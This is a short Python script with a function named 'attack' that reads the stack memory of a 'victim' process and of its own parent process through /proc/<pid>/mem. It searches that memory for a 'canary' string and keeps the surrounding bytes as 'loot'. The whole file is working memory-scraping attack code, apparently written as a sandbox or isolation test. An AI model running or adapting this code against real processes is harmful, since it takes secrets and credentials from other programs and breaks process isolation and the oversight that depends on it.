"""Read the memory of a process of the outside, mapped range by mapped range, and look for its secrets."""

import contextlib
import os


def attack(target):
    loot = []
    for pid in [target["victim"], os.getppid()]:
        with contextlib.suppress(OSError), open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                if "[stack]" in line:
                    start, end = (int(word, 16) for word in line.split()[0].split("-"))
                    memory.seek(start)
                    text = memory.read(end - start)
                    loot += [text[at : at + 40].decode(errors="replace")] if (at := text.find(b"canary")) >= 0 else [pid]
    return loot
